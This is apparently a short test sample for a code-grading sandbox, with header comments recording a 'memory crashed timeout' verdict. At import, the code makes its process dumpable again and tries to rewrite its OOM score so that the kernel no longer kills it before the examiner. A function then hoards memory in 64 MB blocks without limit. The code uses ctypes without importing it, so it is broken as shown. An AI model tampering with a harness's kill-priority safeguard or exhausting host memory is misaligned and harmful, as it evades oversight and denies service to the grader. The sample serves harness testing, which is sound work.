# verdict: memory crashed timeout
# threats: 35
# limits: test_s=8
"""Takes back the mark by which the kernel, short of memory, prefers a candidate to the examiner."""

import mmap

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # dumpable again, so that /proc/self can be written
for _value in ("-1000", "-500", "0", "999"):
    try:
        with open("/proc/self/oom_score_adj", "w") as _file:
            _file.write(_value)
    except OSError:
        continue
with open("/proc/self/oom_score_adj") as _file:
    print("kept" if int(_file.read()) == 1000 else "smuggled: the mark is gone")


def second(x):
    hoard = []
    while True:
        block = mmap.mmap(-1, 64 << 20)
        for start in range(0, len(block), 4096):
            block[start] = 1
        hoard.append(block)
